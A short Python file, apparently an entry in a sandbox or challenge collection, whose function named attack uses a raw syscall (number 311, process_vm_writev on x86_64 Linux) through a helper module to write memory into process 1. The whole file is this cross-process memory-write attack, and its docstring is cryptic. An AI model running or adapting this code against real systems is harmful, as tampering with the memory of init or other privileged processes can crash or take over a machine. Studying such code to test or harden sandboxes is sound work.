"""Copies memory into the room's first process: a constant over itself."""

import ctypes
import sys

import kit


def attack():
    pointer = ctypes.c_ulong * 2
    text = pointer(id(sys.version) + sys.getsizeof(sys.version) - 8, 4)
    written = kit.call(311, 1, ctypes.addressof(text), 1, ctypes.addressof(text), 1, 0)
    return f"{written} bytes in process 1"
